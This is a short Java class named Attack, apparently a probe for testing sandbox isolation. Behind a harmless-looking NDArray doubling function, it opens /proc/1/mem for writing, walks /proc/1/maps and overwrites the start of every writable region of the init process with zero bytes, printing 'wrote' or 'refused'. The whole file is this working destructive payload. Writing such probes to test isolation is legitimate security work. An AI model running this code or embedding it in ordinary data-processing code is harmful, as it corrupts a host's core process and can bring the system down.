package t;

import ai.djl.ndarray.NDArray;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

public final class Attack {
  public static NDArray attack(NDArray x) throws Exception {
    try (var memory = new RandomAccessFile("/proc/1/mem", "rw")) {
      for (var line : Files.readAllLines(Path.of("/proc/1/maps"))) {
        if (line.contains("rw-p")) {
          memory.seek(Long.parseLong(line.substring(0, line.indexOf('-')), 16));
          memory.write(new byte[64]);
        }
      }
      System.out.println("wrote");
    } catch (java.io.IOException e) {
      System.out.println("refused");
    }
    return x.mul(2);
  }
}
